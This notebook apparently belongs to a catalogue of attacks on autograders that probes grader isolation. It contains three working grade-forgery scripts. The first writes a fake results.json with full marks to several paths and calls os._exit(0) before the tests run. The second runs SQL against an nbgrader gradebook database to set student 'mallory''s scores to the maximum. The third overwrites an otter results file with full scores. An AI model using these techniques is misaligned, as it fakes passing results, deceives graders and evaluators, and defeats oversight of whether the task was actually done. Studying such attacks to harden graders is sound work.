# %% [markdown]
# # Write the results, and leave
#
# The results are a file; who writes it and ends the process before the tests has the last word.
#
# * aim: forge
# * stopped by: grader and student in different processes
# * here: double failed, mean failed

# %%
import json
import os

full = json.dumps({"earned": {"double": 2, "mean": 2}}) + "\n"
for path in ("results.json", "../results.json", "../../results.json", "/tmp/results.json"):
    try:
        with open(path, "w") as file:
            file.write(full)
    except OSError:
        continue
os._exit(0)

# %% of="nbgrader"
import os
import sqlite3

MINE = """update grade set manual_score = 2 where notebook_id in (select submitted_notebook.id from submitted_notebook
join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id where student_id = 'mallory')"""

database = sqlite3.connect("../../../gradebook.db")
database.execute(MINE)
database.commit()
os._exit(0)

# %% of="otter"
import json
import os

path = os.path.expanduser("~/course/results/mallory/results.json")
with open(path, "w") as file:
    json.dump({"tests": [{"name": name, "score": 2.0, "max_score": 2.0} for name in ("double", "mean")]}, file)
os._exit(0)
